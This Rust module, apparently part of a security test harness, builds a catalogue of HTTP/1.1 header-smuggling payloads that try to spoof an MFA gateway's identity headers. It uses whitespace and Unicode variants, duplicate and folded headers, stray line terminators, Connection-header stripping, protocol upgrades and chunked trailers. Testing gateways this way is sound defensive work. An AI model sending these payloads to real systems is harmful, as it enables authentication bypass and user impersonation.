//! Heads that only HTTP/1.1 can have, as bytes.

use super::spellings::SPOOF;

/// Lines for the head of a request, and what follows the head.
pub struct Trick {
    pub lines: Vec<u8>,
    pub body: Vec<u8>,
}

/// In each, `{}` stands for what the client makes up.
const LINES: &[&str] = &[
    // Spaces where a server may forgive them.
    "X-MFA-User : {}",
    "X-MFA-User\t: {}",
    " X-MFA-User: {}",
    "\tX-MFA-User: {}",
    "X-MFA -User: {}",
    "X-MFA-User:{}",
    "X-MFA-User:\t{}",
    "X-MFA-User:    {}    ",
    "X-MFA-User \t : {}",
    // More than once, before and after.
    "X-MFA-User: 1001\r\nX-MFA-User: {}",
    "X-MFA-User: {}\r\nX-MFA-User: 1001",
    "X-MFA-User: \r\nx_mfa_user: {}",
    "x_mfa_user: {}\r\nx.mfa.user: {}\r\nX--MFA--User: {}",
    "X-MFA-User: 1001, {}",
    "X-Forwarded-For: 10.0.0.1\r\nX-Forwarded-For: {}\r\nX_Forwarded_For: {}",
    // A line that is folded into the one before (RFC 9112, section 5.2).
    "X-MFA-User:\r\n {}",
    "X-MFA-User: a\r\n\t{}",
    "X-Other: a\r\n X-MFA-User: {}",
    "X-Other: a\r\n\tX-MFA-User: {}",
    "X-Other:\r\n X-MFA-User: {}\r\n X-MFA-Verified: {}",
    " folded\r\nX-MFA-User: {}",
    // What some parser takes for the end of a line, of a name or of a value.
    "X-Other: a\nX-MFA-User: {}",
    "X-Other: a\rX-MFA-User: {}",
    "X-Other: a\r\r\nX-MFA-User: {}",
    "X-Other: a\n\rX-MFA-User: {}",
    "X-Other: a\0X-MFA-User: {}",
    "X-Other: a\u{b}X-MFA-User: {}",
    "X-Other: a\u{c}X-MFA-User: {}",
    "X-Other: a\u{85}X-MFA-User: {}",
    "X-Other: a\u{2028}X-MFA-User: {}",
    "X-Other: a\u{10d}\u{10a}X-MFA-User: {}",
    "X-Other: a\\r\\nX-MFA-User: {}",
    "X-Other: a%0d%0aX-MFA-User: {}",
    "X-MFA-User\0: {}",
    "X-MFA-User\u{1}: {}",
    "X-MFA-User\r: {}",
    "X-MFA-User\r\n: {}",
    "\0X-MFA-User: {}",
    "\u{feff}X-MFA-User: {}",
    "X-MFA-User\u{a0}: {}",
    "X\u{2010}MFA\u{2010}User: {}",
    "X\u{ff0d}MFA\u{ff0d}User: {}",
    "X\u{ad}-MFA-User: {}",
    "X-MFA-U\u{17f}er: {}",
    "(X-MFA-User): {}",
    "\"X-MFA-User\": {}",
    "X-MFA-User;: {}",
    "X-MFA-User,X-Other: {}",
    "X-MFA-User/: {}",
    "X-MFA-User[0]: {}",
    "X-MFA-User={}",
    "X-MFA-User= {}: x",
    ": {}",
    ":X-MFA-User: {}",
    "X-MFA-User:: {}",
    "X-MFA-User",
    // The gateway's own headers taken away, or put in the place of other ones.
    "Connection: close, X-MFA-User\r\nX-MFA-User: {}",
    "Connection: X-MFA-User, X-MFA-Verified, X-MFA-Factor\r\nX-MFA-Verified: {}",
    "Connection: x_mfa_user, X-Forwarded-For, X-Request-ID",
    "Connection: x-mfa-user,x-mfa-verified,x-mfa-factor,x-mfa-amr,x-mfa-acr,x-mfa-auth-time",
    "Connection: X-Forwarded-Proto\r\nConnection: X-MFA-User",
    "Connection: host, X-Forwarded-Host",
    "Connection: close\tX-MFA-User",
    "Connection: \"X-MFA-User\"",
    "Proxy-Connection: X-MFA-User",
    "Keep-Alive: X-MFA-User",
    "TE: trailers, X-MFA-User\r\nTrailer: X-MFA-User",
    "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nConnection: Upgrade, HTTP2-Settings\r\nX-MFA-User: {}",
    "Upgrade: websocket\r\nConnection: Upgrade, X-MFA-User\r\nX-MFA-User: {}",
    "Via: 1.1 x\r\nX-MFA-User: {}",
    "Host: localhost\r\nX-MFA-User: {}",
    "Forwarded: for={};proto=http;host=elsewhere",
    "Forwarded: for=\"[::1]\";by={}, for={}",
    "Expect: 100-continue\r\nX-MFA-User: {}",
];

/// Fields at the end of a chunked body.
const TRAILERS: &[&str] = &[
    "X-MFA-User: {}",
    "x_mfa_user: {}",
    "X-MFA-User: {}\r\nX-MFA-Verified: {}",
    "X-Forwarded-For: {}",
    "X-Original-URL: {}",
    "X-MFA-User : {}",
    " X-MFA-User: {}",
    "Cookie: x={}\r\nX.MFA.User: {}",
];

pub fn tricks() -> Vec<Trick> {
    let fill = |text: &str| text.replace("{}", SPOOF);
    let line = |text: &str| Trick {
        lines: fill(text).into_bytes(),
        body: Vec::new(),
    };
    let mut tricks: Vec<Trick> = LINES.iter().map(|text| line(text)).collect();
    // Bytes that are no UTF-8.
    for (before, after) in [
        (b"X-Other: a\x85".as_slice(), b"X-MFA-User: ".as_slice()),
        (b"X-MFA-User\x85: ", b""),
        (b"X\xadMFA\xadUser: ", b""),
        (b"X-MFA-User\xa0: ", b""),
    ] {
        let lines = [before, after, SPOOF.as_bytes()].concat();
        let body = Vec::new();
        tricks.push(Trick { lines, body });
    }
    tricks.push(line("X-MFA-User: {}\r\n".repeat(100).trim_end()));
    tricks.push(line(&format!("X-MFA-User: {}{{}}", "1001, ".repeat(500))));
    let many = |number: usize| format!("X-Many-{number}: 1\r\n");
    let many: String = (0..60).map(many).collect();
    tricks.push(line(&format!("{many}X-MFA-User: {{}}")));
    tricks.extend(TRAILERS.iter().map(|trailer| {
        Trick {
            lines: b"Transfer-Encoding: chunked\r\nTrailer: X-MFA-User\r\nContent-Type: text/plain"
                .to_vec(),
            body: format!("3\r\nabc\r\n0\r\n{}\r\n\r\n", fill(trailer)).into_bytes(),
        }
    }));
    tricks
}
